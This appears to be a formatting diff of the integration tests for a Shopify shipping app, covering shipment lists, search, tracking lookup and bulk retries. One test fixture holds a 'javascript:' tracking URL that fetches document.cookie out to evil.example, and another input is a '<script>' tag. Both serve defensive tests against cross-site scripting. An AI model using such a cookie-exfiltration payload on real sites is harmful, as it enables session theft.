@@ -24,7 +24,9 @@ const ListData = z.object({
   page: z.number(),
   hasPrevious: z.boolean(),
   hasNext: z.boolean(),
-  rows: z.array(z.object({ id: z.string(), orderName: z.string().nullable(), packageId: z.string(), state: z.string(), reason: z.string().nullable() })),
+  rows: z.array(
+    z.object({ id: z.string(), orderName: z.string().nullable(), packageId: z.string(), state: z.string(), reason: z.string().nullable() }),
+  ),
 });
 const DetailData = z.object({
   shipment: z.object({
@@ -34,7 +36,11 @@ const DetailData = z.object({
     timeline: z.array(z.object({ at: z.string(), message: z.string() })),
   }),
 });
-const RetryAnswer = z.object({ outcome: z.string(), message: z.string(), reasons: z.array(z.object({ field: z.string(), message: z.string() })) });
+const RetryAnswer = z.object({
+  outcome: z.string(),
+  message: z.string(),
+  reasons: z.array(z.object({ field: z.string(), message: z.string() })),
+});
 
 let sequence = 0;
 
@@ -82,7 +88,9 @@ describe("the shipments list", () => {
     expect(ids).not.toContain(theirs.id);
     expect(ids.indexOf(held.id)).toBeGreaterThanOrEqual(0);
     expect(ids.indexOf(held.id)).toBeLessThan(ids.indexOf(older.id));
-    expect(all.rows.find((row) => row.id === held.id)).toMatchObject({ reason: "The postal code 1234 is not valid for the United States." });
+    expect(all.rows.find((row) => row.id === held.id)).toMatchObject({
+      reason: "The postal code 1234 is not valid for the United States.",
+    });
     expect(all.rows.find((row) => row.id === older.id)).toMatchObject({ reason: null });
 
     const attention = ListData.parse(await (await adminData(s, "/app/shipments?filter=attention", LIST)).json());
@@ -119,7 +127,10 @@ describe("a shipment's page", () => {
 
     const detail = DetailData.parse(await (await adminData(s, `/app/shipments/${mine.id}`, DETAIL)).json());
     expect(detail.shipment).toMatchObject({ id: mine.id, state: "FAILED" });
-    expect(detail.shipment.timeline.map((entry) => entry.message)).toEqual(["Sent to the provider.", "The provider could not create the package."]);
+    expect(detail.shipment.timeline.map((entry) => entry.message)).toEqual([
+      "Sent to the provider.",
+      "The provider could not create the package.",
+    ]);
 
     const response = await adminData(s, `/app/shipments/${theirs.id}`, DETAIL);
     expect(response.status).toBe(404);
@@ -170,8 +181,14 @@ describe("a shipment's page", () => {
 
   it("links a tracking page only when it is a web address: a javascript: one in the database is rendered as no link, on both pages", async () => {
     const s = stack();
-    const shady = await insertShipment(s.shop, "DELIVERED", { trackingNumber: "9400100000000000000077", trackingUrl: "javascript:fetch('//evil.example/'+document.cookie)" });
-    const fine = await insertShipment(s.shop, "DELIVERED", { trackingNumber: "9400100000000000000078", trackingUrl: "https://tools.usps.com/go/TrackConfirmAction?tLabels=9400100000000000000078" });
+    const shady = await insertShipment(s.shop, "DELIVERED", {
+      trackingNumber: "9400100000000000000077",
+      trackingUrl: "javascript:fetch('//evil.example/'+document.cookie)",
+    });
+    const fine = await insertShipment(s.shop, "DELIVERED", {
+      trackingNumber: "9400100000000000000078",
+      trackingUrl: "https://tools.usps.com/go/TrackConfirmAction?tLabels=9400100000000000000078",
+    });
     for (const path of ["/app/shipments", `/app/shipments/${shady.id}`]) {
       const page = await adminDocument(s, path);
       expect(page.status, s.logs().slice(-3_000)).toBe(200);
@@ -222,7 +239,12 @@ const TrackingData = z.object({
     z.object({ kind: z.literal("problem"), trackingNumber: z.string(), message: z.string() }),
   ]),
 });
-const BulkData = z.object({ intent: z.string(), tone: z.string(), message: z.string(), problems: z.array(z.object({ orderName: z.string(), message: z.string() })) });
+const BulkData = z.object({
+  intent: z.string(),
+  tone: z.string(),
+  message: z.string(),
+  problems: z.array(z.object({ orderName: z.string(), message: z.string() })),
+});
 const DeadJobsData = z.object({ deadJobs: z.array(z.object({ id: z.string(), what: z.string(), reason: z.string() })) });
 
 /** A drop-ship package created in the stack's sandbox, past all its checkpoints: its tracking number. */
@@ -246,19 +268,34 @@ async function sandboxParcel(packageId: string): Promise<string> {
     }),
   });
   expect(created.status, await created.clone().text()).toBe(201);
-  const advanced = await fetch(`${s.sandboxUrl}/__sandbox/clock`, { method: "POST", headers, body: JSON.stringify({ advanceMs: 30 * 86_400_000 }) });
+  const advanced = await fetch(`${s.sandboxUrl}/__sandbox/clock`, {
+    method: "POST",
+    headers,
+    body: JSON.stringify({ advanceMs: 30 * 86_400_000 }),
+  });
   expect(advanced.status).toBe(200);
-  const status = z.object({ TrackingNumber: z.string() }).parse(await (await fetch(`${s.sandboxUrl}/v1/directExpressOrders/${packageId}/status`, { headers })).json());
+  const status = z
+    .object({ TrackingNumber: z.string() })
+    .parse(await (await fetch(`${s.sandboxUrl}/v1/directExpressOrders/${packageId}/status`, { headers })).json());
   return status.TrackingNumber;
 }
 
 describe("searching the shipments list", () => {
   it("finds a shipment by order name, tracking number, SKU and customer name, within the tab, never another shop's", async () => {
     const s = stack();
-    const request = (sku: string, name: string) => JSON.stringify({ PackageId: "X", ShipToAddress: { Contact: name, Country: "US" }, Skus: [{ Sku: sku, Quantity: 1 }] });
-    const wanted = await insertShipment(s.shop, "FULFILLED", { orderName: "#7301", trackingNumber: "1Z999AA10123456784", requestSent: request("SEARCH-LAMP-01", "Marie Curie") });
+    const request = (sku: string, name: string) =>
+      JSON.stringify({ PackageId: "X", ShipToAddress: { Contact: name, Country: "US" }, Skus: [{ Sku: sku, Quantity: 1 }] });
+    const wanted = await insertShipment(s.shop, "FULFILLED", {
+      orderName: "#7301",
+      trackingNumber: "1Z999AA10123456784",
+      requestSent: request("SEARCH-LAMP-01", "Marie Curie"),
+    });
     const other = await insertShipment(s.shop, "HELD", { orderName: "#7302", requestSent: request("SEARCH-DESK-02", "Niels Bohr") });
-    const theirs = await insertShipment(OTHER_SHOP, "FULFILLED", { orderName: "#7301", trackingNumber: "1Z999AA10123456799", requestSent: request("SEARCH-LAMP-01", "Marie Curie") });
+    const theirs = await insertShipment(OTHER_SHOP, "FULFILLED", {
+      orderName: "#7301",
+      trackingNumber: "1Z999AA10123456799",
+      requestSent: request("SEARCH-LAMP-01", "Marie Curie"),
+    });
 
     const ids = async (path: string) => SearchData.parse(await (await adminData(s, path, LIST)).json()).rows.map((row) => row.id);
     for (const q of ["#7301", "7301", "1Z999AA10123456784", "search-lamp-01", "marie curie"]) {
@@ -284,7 +321,12 @@ describe("the tracking lookup", () => {
     await insertShipment(OTHER_SHOP, "DELIVERED", { orderName: "#7402", trackingNumber: notOurs });
 
     const found = TrackingData.parse(await (await adminData(s, `/app/shipments?track=${ours}`, LIST)).json()).tracking;
-    expect(found, s.logs().slice(-3_000)).toMatchObject({ kind: "found", trackingNumber: ours, status: "Delivered", shipment: { id: shipment.id } });
+    expect(found, s.logs().slice(-3_000)).toMatchObject({
+      kind: "found",
+      trackingNumber: ours,
+      status: "Delivered",
+      shipment: { id: shipment.id },
+    });
     if (found.kind !== "found") throw new Error("not found");
     expect(found.checkpoints[0]?.message).toBe("Delivered");
     expect(found.checkpoints.length).toBeGreaterThan(1);
@@ -296,7 +338,8 @@ describe("the tracking lookup", () => {
     expect(unknown).toEqual({
       kind: "problem",
       trackingNumber: "NOPE0000000000",
-      message: "The provider knows no parcel with tracking number NOPE0000000000. Check the number; a carrier's number appears only once the parcel is picked up.",
+      message:
+        "The provider knows no parcel with tracking number NOPE0000000000. Check the number; a carrier's number appears only once the parcel is picked up.",
     });
     const odd = TrackingData.parse(await (await adminData(s, "/app/shipments?track=%3Cscript%3E", LIST)).json()).tracking;
     expect(odd).toMatchObject({ kind: "problem", message: "A tracking number has only letters, digits and dashes, at most 60 of them." });
@@ -306,7 +349,10 @@ describe("the tracking lookup", () => {
 describe("bulk actions and stopped jobs", () => {
   it("retries the selected shipments of this shop only, and says what happened to each", async () => {
     const s = stack();
-    const mine = await insertShipment(s.shop, "FAILED", { orderName: "#7501", fulfillmentOrderId: "gid://shopify/FulfillmentOrder/999999001" });
+    const mine = await insertShipment(s.shop, "FAILED", {
+      orderName: "#7501",
+      fulfillmentOrderId: "gid://shopify/FulfillmentOrder/999999001",
+    });
     const theirs = await insertShipment(OTHER_SHOP, "FAILED", { orderName: "#7502" });
     const form = new URLSearchParams([
       ["intent", "retry-selected"],
@@ -342,7 +388,18 @@ describe("bulk actions and stopped jobs", () => {
     const now = new Date();
     const dead = (id: string, shop: string) =>
       s.db.job.create({
-        data: { id, shop, kind: "write-back.fulfil", payload: JSON.stringify({ shop }), status: "DEAD", attempts: 8, maxAttempts: 8, runAt: now, finishedAt: now, lastError: "Shopify refused the fulfilment: the order is archived." },
+        data: {
+          id,
+          shop,
+          kind: "write-back.fulfil",
+          payload: JSON.stringify({ shop }),
+          status: "DEAD",
+          attempts: 8,
+          maxAttempts: 8,
+          runAt: now,
+          finishedAt: now,
+          lastError: "Shopify refused the fulfilment: the order is archived.",
+        },
       });
     await dead("dead-mine", s.shop);
     await dead("dead-theirs", OTHER_SHOP);
@@ -350,13 +407,20 @@ describe("bulk actions and stopped jobs", () => {
     const listed = DeadJobsData.parse(await (await adminData(s, "/app/shipments", LIST)).json()).deadJobs;
     expect(listed.map((job) => job.id)).toContain("dead-mine");
     expect(listed.map((job) => job.id)).not.toContain("dead-theirs");
-    expect(listed.find((job) => job.id === "dead-mine")).toMatchObject({ what: "Writing tracking to Shopify", reason: "Shopify refused the fulfilment: the order is archived." });
+    expect(listed.find((job) => job.id === "dead-mine")).toMatchObject({
+      what: "Writing tracking to Shopify",
+      reason: "Shopify refused the fulfilment: the order is archived.",
+    });
 
-    const refused = BulkData.parse(await (await adminData(s, "/app/shipments", LIST, { form: { intent: "retry-job", jobId: "dead-theirs" } })).json());
+    const refused = BulkData.parse(
+      await (await adminData(s, "/app/shipments", LIST, { form: { intent: "retry-job", jobId: "dead-theirs" } })).json(),
+    );
     expect(refused.message).toBe("That job is no longer stopped: it was retried already.");
     expect((await s.db.job.findUniqueOrThrow({ where: { id: "dead-theirs" } })).status).toBe("DEAD");
 
-    const retried = BulkData.parse(await (await adminData(s, "/app/shipments", LIST, { form: { intent: "retry-job", jobId: "dead-mine" } })).json());
+    const retried = BulkData.parse(
+      await (await adminData(s, "/app/shipments", LIST, { form: { intent: "retry-job", jobId: "dead-mine" } })).json(),
+    );
     expect(retried.message).toBe("The job is queued again and runs in a moment.");
     expect((await s.db.job.findUniqueOrThrow({ where: { id: "dead-mine" } })).status).toBe("PENDING");
   });
@@ -382,7 +446,12 @@ describe("sending all held shipments that now pass", () => {
 
     const response = await adminData(s, "/app/shipments", LIST, { form: { intent: "send-held" } });
     expect(response.status, s.logs().slice(-3_000)).toBe(200);
-    expect(BulkData.parse(await response.json())).toEqual({ intent: "send-held", tone: "success", message: "1 shipment queued to the provider.", problems: [] });
+    expect(BulkData.parse(await response.json())).toEqual({
+      intent: "send-held",
+      tone: "success",
+      message: "1 shipment queued to the provider.",
+      problems: [],
+    });
     expect((await s.db.shipment.findUniqueOrThrow({ where: { id: held.id } })).state).toBe("READY");
     expect(await s.db.job.count({ where: { shop: s.shop, kind: "push.batch", status: "PENDING" } })).toBeGreaterThanOrEqual(1);
   });
